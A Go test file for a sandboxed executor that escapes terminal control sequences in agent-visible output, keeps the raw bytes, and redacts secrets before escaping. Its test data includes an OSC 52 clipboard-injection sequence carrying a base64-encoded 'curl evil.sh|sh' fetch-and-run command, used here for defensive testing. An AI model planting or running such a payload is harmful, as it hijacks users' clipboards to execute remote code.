package pipeline

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse-dev/gatehouse/sandbox"
	"github.com/gatehouse-dev/gatehouse/sandbox/sandboxtest"
	"github.com/gatehouse-dev/gatehouse/service/api"
	"github.com/gatehouse-dev/gatehouse/service/policy"
)

// hostile prints every class of terminal control the executor escapes,
// in printf's own spelling, so that the judged text holds none of them.
const hostile = `printf 'a\033]52;c;Y3VybCBldmlsLnNofHNo\a' ; ` + // OSC 52 clipboard
	`printf '\033]0;title\033\\' ; ` + // OSC 0 title, ST
	`printf '\033[2K\033[1A\033[31m' ; ` + // CSI
	`printf 'x\ry\r\n' ; ` + // bare CR, CRLF
	`printf '\b\a\177\t\n' ; ` + // BS, BEL, DEL, tab
	`printf '\302\233\302\205' ; ` + // C1 CSI and NEL as UTF-8
	`printf '\342\200\256\342\201\246\342\200\213\357\273\277' ; ` + // RLO, LRI, ZWSP, BOM
	`printf '\233\377' ; ` + // raw 8-bit CSI, not UTF-8
	`printf 'end\n'`

// hostileRaw is what hostile prints.
const hostileRaw = "a\x1b]52;c;Y3VybCBldmlsLnNofHNo\a" +
	"\x1b]0;title\x1b\\" +
	"\x1b[2K\x1b[1A\x1b[31m" +
	"x\ry\r\n" +
	"\b\a\x7f\t\n" +
	"\u009b\u0085" +
	"\u202e\u2066\u200b\ufeff" +
	"\x9b\xff" +
	"end\n"

// hostileEscaped is what the agent gets.
const hostileEscaped = `a\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07` +
	`\x1b]0;title\x1b\` +
	`\x1b[2K\x1b[1A\x1b[31m` +
	`x\x0dy` + "\r\n" +
	`\x08\x07\x7f` + "\t\n" +
	`\u009b\u0085` +
	`\u202e\u2066\u200b\ufeff` +
	`\x9b\xff` +
	"end\n"

func TestTerminalControlsEscaped(t *testing.T) {
	t.Parallel()
	f, s, _ := observed(t, func(c *policy.Config) { c.Exec.Sandbox.Backend = "bubblewrap" })
	sandboxtest.RequireBwrap(t)
	o := f.run(hostile + `; (` + hostile + `) >&2`)
	if o.Event.SandboxMode != string(sandbox.ModeBubblewrap) {
		t.Fatalf("mode %q, want bubblewrap", o.Event.SandboxMode)
	}
	if got := o.Result.Stdout; got != hostileEscaped {
		t.Errorf("stdout = %q,\nwant %q", got, hostileEscaped)
	}
	if got := o.Result.Stderr; got != hostileEscaped {
		t.Errorf("stderr = %q,\nwant %q", got, hostileEscaped)
	}
	// The record keeps the raw (redacted) bytes and their hash; the
	// human views escape them.
	sum := sha256.Sum256([]byte(hostileRaw))
	if o.Event.Output.SHA256 != hex.EncodeToString(sum[:]) || o.Event.Output.StdoutBytes != int64(len(hostileRaw)) {
		t.Errorf("output %+v, want the sha256 and size of the raw output", o.Event.Output)
	}
	e, err := s.Get(context.Background(), o.Event.ID)
	if err != nil {
		t.Fatal(err)
	}
	if string(e.Stdout) != hostileRaw || string(e.Stderr) != hostileRaw {
		t.Errorf("kept stdout %q, stderr %q; want the raw output", e.Stdout, e.Stderr)
	}
}

// lockedBuffer is a stream writer the test reads after the run.
type lockedBuffer struct {
	mu     sync.Mutex
	b      bytes.Buffer
	writes int
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.writes++
	return l.b.Write(p)
}

// TestTerminalControlsStreamed splits sequences and UTF-8 characters
// across the command's writes (and so across the pipe's reads): the
// streamed output is escaped all the same.
func TestTerminalControlsStreamed(t *testing.T) {
	t.Parallel()
	f := bwrapFixture(t, nil)
	var out, errs lockedBuffer
	cmd := `for p in '\033' ']52;c;eA==' '\a' '\342' '\200' '\256' 'ok' '\r' '\n' '\r' 'z\n'; do printf "$p"; sleep 0.05; done`
	o, err := f.ex.Execute(context.Background(), api.ExecRequest{Command: cmd, Agent: "cli", Surface: api.SurfaceCLI},
		sandbox.Streams{Stdout: &out, Stderr: &errs})
	if err != nil {
		t.Fatal(err)
	}
	want := `\x1b]52;c;eA==\x07\u202eok` + "\r\n" + `\x0dz` + "\n"
	if got := out.b.String(); got != want {
		t.Errorf("streamed stdout = %q, want %q (%d writes)", got, want, out.writes)
	}
	if out.writes < 3 {
		t.Errorf("%d writes: the output was not streamed in pieces", out.writes)
	}
	if exitOf(o) != 0 {
		t.Errorf("exit %d, stderr %q", exitOf(o), errs.b.String())
	}
}

func TestTerminalControlsKeep(t *testing.T) {
	t.Parallel()
	f := bwrapFixture(t, func(c *policy.Config) { c.Exec.Output.TerminalControls = "keep" })
	o := f.run(hostile)
	if got := o.Result.Stdout; got != hostileRaw {
		t.Errorf("stdout = %q, want it unchanged: %q", got, hostileRaw)
	}
}

// TestTerminalControlsAfterRedaction checks the order: DLP sees the
// command's bytes (a secret split by an escape sequence is not hidden
// from it by escaping), and its marker is delivered as it is.
func TestTerminalControlsAfterRedaction(t *testing.T) {
	t.Parallel()
	f := bwrapFixture(t, nil)
	o := f.run(`printf 'key AKIAIOSFODNN7EXAMPLE\033[0m\n'`)
	if got := o.Result.Stdout; strings.Contains(got, "AKIAIOSFODNN7EXAMPLE") || !strings.Contains(got, "[REDACTED:") || !strings.HasSuffix(got, `\x1b[0m`+"\n") {
		t.Errorf("stdout = %q, want the key redacted and the sequence escaped", got)
	}
}
